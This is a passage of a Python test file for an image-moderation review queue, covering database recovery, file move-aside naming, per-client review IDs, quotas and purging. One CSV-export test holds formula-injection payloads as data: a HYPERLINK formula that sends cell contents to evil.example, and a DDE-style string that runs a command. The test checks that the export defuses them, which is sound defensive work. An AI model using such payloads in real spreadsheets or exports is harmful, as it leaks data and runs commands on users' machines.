    assert all(str(data_dir / m) in record.getMessage() for m in moved)
    assert "started a new, empty one" in record.getMessage()
    assert q.counts()["pending"] == 0
    add(q, "fresh")
    assert q.counts()["pending"] == 1
    q.close()
    assert sqlite_queue(data_dir).counts()["pending"] == 1  # the new one is sound: nothing moved again
    assert aside(data_dir) == moved


def test_a_locked_database_is_not_mistaken_for_a_corrupt_one(tmp_path, monkeypatch):
    data_dir = tmp_path / "data"
    sqlite_queue(data_dir).close()
    locker = sqlite3.connect(data_dir / DB_FILE, isolation_level=None)
    locker.execute("PRAGMA journal_mode=DELETE")  # a rollback journal: an exclusive lock blocks readers
    locker.execute("BEGIN EXCLUSIVE")
    try:
        with pytest.raises(ReviewUnavailable, match="locked"):
            _SQLite(data_dir / DB_FILE, busy_timeout=0.2).recover()
    finally:
        locker.execute("ROLLBACK")
        locker.close()
    assert aside(data_dir) == []


def test_move_aside_never_overwrites(tmp_path):
    import datetime as dt

    from nsfw_core.base.files import move_aside

    when = dt.datetime(2026, 12, 1, 1, 15, 0, tzinfo=dt.timezone.utc)
    for n in range(3):
        (tmp_path / "db").write_bytes(b"%d" % n)
        assert move_aside(tmp_path / "db", ("", "-wal"), when) == [
            (tmp_path / "db", tmp_path / ("db.corrupt-20261201T011500Z" + ("" if n == 0 else f"-{n + 1}")))]
    assert sorted(p.read_bytes() for p in tmp_path.iterdir()) == [b"0", b"1", b"2"]


def test_export_csv_writes_formulas_as_text(q):
    """Issue 29, point 7: a source such as =HYPERLINK(...) (any client picks it: an upload's name, a URL) ran as a
    formula in the spreadsheet the export was opened in."""
    evil = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    for n, source in enumerate([evil, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "https://example.com/ok.jpg"]):
        q.decide(add(q, n, source=source), "r1", "safe")
    rows = list(csv.DictReader(io.StringIO(q.export_csv())))
    assert [r["path"] for r in rows] == ["'" + evil, "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3",
                                         "https://example.com/ok.jpg"]
    assert all(not r[c].startswith("'") for r in rows for c in CLASS_NAMES)  # numbers stay numbers


# ---------------------------------------------------------------- issue 29: review ids, quotas, audiences


def test_review_ids_are_per_client_unguessable_and_go_with_their_items(backend):
    from nsfw_core.state.review.queue import QuotaSpent

    clock = backend.clock
    q = backend.open(retention_days=30)
    item, for_a = q.enqueue_for("A", sha(1), "https://example.com/1.jpg", SCORES, MODEL, "unknown",
                                image_bytes=b"\xff\xd8\xff url bytes")
    joined, for_b = q.enqueue_for("B", sha(1), "upload", SCORES, MODEL, "unknown")
    assert joined == item and for_a != for_b  # one item, one review id per client
    assert re.fullmatch(r"rv_[A-Za-z0-9_-]{22}", for_a) and q.ticket(for_a) == (item, "A")
    assert q.ticket(for_b) == (item, "B") and q.ticket(str(item)) is None and q.ticket("rv_" + "A" * 22) is None
    assert q.enqueue_for("A", sha(1), "upload", SCORES, MODEL, "unknown") == (item, for_a)  # the same again
    assert q.get(item).image == b"\xff\xd8\xff url bytes" and q.get(item).public_id == for_a  # a URL's bytes kept
    # one open item per image and audience: A's own thresholds queue a private copy
    private, _ = q.enqueue_for("A", sha(1), "upload", SCORES, MODEL, "unknown", audience="A")
    assert private != item and q.get(private).audience == "A"
    # the quota counts the items a client created in the last hour (joining is free)
    with pytest.raises(QuotaSpent) as spent:
        q.enqueue_for("A", sha(2), "upload", SCORES, MODEL, "unknown", quota=2)
    assert spent.value.status == 429 and "NSFW_REVIEW_QUOTA=2" in spent.value.message
    assert q.enqueue_for("B", sha(2), "upload", SCORES, MODEL, "unknown", quota=2)[0] > 0
    assert q.enqueue_for("A", sha(2), "upload", SCORES, MODEL, "unknown", quota=2)[0] > 0  # joins B's: free
    clock.advance(3601)
    assert q.enqueue_for("A", sha(3), "upload", SCORES, MODEL, "unknown", quota=2)[0] > 0  # a new hour
    # a decision is remembered only for the bytes the reviewer was shown
    q.decide(item, "r1", "safe", seen=sha(99))
    q.decide(private, "r1", "safe", seen=sha(1))
    with q._tx(write=False) as tx:
        assert tx.run("SELECT review_id, audience FROM known_images WHERE op = 'add'") == [(private, "A")]
    clock.advance(31 * 86400)
    assert q.purge() == 4
    assert q.ticket(for_a) is None and q.ticket(for_b) is None  # the review ids go with their items
